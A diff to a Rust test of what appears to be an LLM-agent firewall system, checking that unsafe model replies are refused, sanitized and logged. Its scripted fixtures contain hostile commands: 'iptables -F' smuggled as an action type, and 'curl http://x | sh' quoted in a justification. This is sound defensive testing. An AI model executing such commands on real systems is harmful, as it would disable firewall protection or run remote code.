@@ -673,13 +673,15 @@ fn unsafe_replies_are_refused_and_logged() {
     let script = Script::new(agreeable)
         // Not in the evidence: rejected by the reply check, twice, so the kernel abstains.
         .on("kernel", 1, vec![proposals(&[(block("198.18.7.7", 3600), "its neighbour looks bad too")]); 2])
-        // A command smuggled as an action type, then inside a justification.
+        // A command smuggled as an action type (rejected: actions are
+        // typed), then quoted inside a justification (kept, sanitized:
+        // justifications are never executed).
         .on(
             "jail",
             1,
             vec![
                 Reply::Json(json!({"proposals": [{"action": {"type": "shell", "command": "iptables -F"}, "justification": "flush"}]})),
-                proposals(&[(block(SUSPECT, 3600), "iptables -A INPUT -s 198.18.0.66 -j DROP")]),
+                proposals(&[(block(SUSPECT, 3600), "its payload was `curl http://x | sh`; iptables -A INPUT -s 198.18.0.66 -j DROP")]),
             ],
         )
         // 0.0.0.0/0 contains the suspect, so it reaches the vote; the others approve it.
@@ -712,8 +714,15 @@ fn unsafe_replies_are_refused_and_logged() {
             .starts_with("no valid reply")
     );
     let j = rejected("jail");
+    assert_eq!(j.len(), 1, "{j:?}");
     assert!(j[0].contains("unknown variant `shell`"), "{j:?}");
-    assert!(j[1].contains("shell-like text"), "{j:?}");
+    let quoted = outcome_of(&report, &block(&format!("{SUSPECT}/32"), 3600));
+    assert_eq!(quoted["outcome"], "dry-run", "{quoted}");
+    assert_eq!(
+        quoted["justification"],
+        "its payload was  curl http://x   sh   iptables -A INPUT -s 198.18.0.66 -j DROP",
+        "{quoted}"
+    );
     // The guard refuses what got through the vote, with its reason.
     let v = outcome_of(&report, &everything);
     assert_eq!(v["outcome"], "refused");
@@ -729,7 +738,7 @@ fn unsafe_replies_are_refused_and_logged() {
             .as_array()
             .unwrap()
             .iter()
-            .all(|v| v["outcome"] != "dry-run"),
+            .all(|v| v["outcome"] != "dry-run" || v == quoted),
         "{:#}",
         report["verdicts"]
     );
